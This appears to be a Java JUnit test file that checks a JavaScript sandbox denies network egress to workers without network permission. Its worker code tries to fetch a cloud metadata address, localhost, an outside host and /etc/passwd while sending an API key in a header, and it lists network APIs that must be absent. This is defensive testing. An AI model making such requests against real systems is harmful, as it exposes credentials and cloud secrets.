package dev.workerloader.hostile;

import dev.workerloader.Worker;
import dev.workerloader.sandbox.GraalWorkerLoader;
import org.assertj.core.api.InstanceOfAssertFactories;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static dev.workerloader.hostile.Hostile.SECRET;
import static dev.workerloader.hostile.Hostile.assertHostAliveAndClean;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Attack: reaching the network. A worker without network access (no allowed hosts, no
 * outbound handler) gets nothing: {@code fetch} is either missing or rejects, and no
 * other network API exists. Metadata addresses, redirects to blocked hosts and credential
 * echo need {@code fetch()} and are listed as TODO in docs/security.md.
 *
 * @author Worker Loader team
 */
class EgressTests {

	private static GraalWorkerLoader loader;

	@BeforeAll
	static void startLoader() {
		loader = Hostile.loader();
	}

	@AfterAll
	static void stopLoader() {
		assertHostAliveAndClean(loader);
		loader.close();
	}

	@ParameterizedTest(name = "fetch {0}")
	@ValueSource(strings = { "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:1/", "https://example.com/",
			"file:///etc/passwd" })
	void noNetworkWorkerGetsNothing(String url) {
		try (Worker worker = loader.load(Hostile.code("default",
				"async run(p, env) {" + " if (typeof fetch !== 'function') { return 'no fetch'; }"
						+ " try { const r = await fetch('" + url + "', { headers: { authorization: env.API_KEY } });"
						+ " return 'reached ' + r.status; } catch (e) { return 'rejected'; } }"))) {
			Object result = worker.getEntrypoint().call("run");
			assertThat(result).isIn("no fetch", "rejected");
			assertThat(String.valueOf(result)).doesNotContain(SECRET);
		}
	}

	@Test
	void noOtherNetworkApiExists() {
		try (Worker worker = loader.load(Hostile.code("default",
				"run() { return ['XMLHttpRequest', 'WebSocket',"
						+ " 'EventSource', 'navigator', 'Deno', 'Bun', 'connect', 'importScripts']"
						+ ".filter((n) => typeof globalThis[n] !== 'undefined'); }"))) {
			assertThat(worker.getEntrypoint().call("run")).asInstanceOf(InstanceOfAssertFactories.LIST).isEmpty();
		}
	}

}
